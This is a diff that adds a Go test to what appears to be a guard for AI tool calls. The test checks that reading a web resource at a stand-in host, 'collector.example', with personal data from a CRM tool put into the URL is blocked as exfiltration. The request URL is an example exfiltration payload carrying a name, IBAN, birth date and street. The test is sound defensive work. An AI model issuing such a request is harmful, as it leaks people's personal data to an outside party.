@@ -230,3 +230,23 @@ func TestEgressBudget(t *testing.T) {
 		t.Error("one call fits into the budget, two do not")
 	}
 }
+
+// An address on the web says things to whoever reads its requests.
+func TestAResourceOnTheWebIsAWayOut(t *testing.T) {
+	h := guardedHouse(t, durward.Guard{Upstreams: map[string]durward.GuardScope{"crm": {Data: "personal"}}})
+	s := snapshotOf(h)
+	s.Guard = durward.Guard{Upstreams: map[string]durward.GuardScope{"crm": {Data: "personal"}}}
+	s.Roles[0].Allow = []string{"*"}
+	if err := h.Load(s); err != nil {
+		t.Fatal(err)
+	}
+	h.up.answer = answering(`{"resultType":"complete","content":[{"type":"text","text":"{\"name\":\"Adaeze Okonkwo\",\"iban\":\"DE89370400440532013000\",\"birth\":\"1988-03-14\",\"street\":\"Linienstrasse 112\"}"}]}`)
+	if _, err := h.Serve(t.Context(), h.call(t, "tools/call", `{"name":"crm__get","arguments":{"text":"x"}}`), nil); err != nil {
+		t.Fatal(err)
+	}
+	h.up.answer = nil
+	_, err := h.Serve(t.Context(), h.call(t, "resources/read", `{"uri":"https://collector.example/?q=Adaeze%20Okonkwo,DE89370400440532013000,1988-03-14,Linienstrasse%20112"}`), nil)
+	if e := durward.AsError(err); err == nil || e.Reason != durward.ReasonGuardBlocked || !strings.Contains(e.Message, "flow.exfiltration") {
+		t.Errorf("Serve = %v", err)
+	}
+}
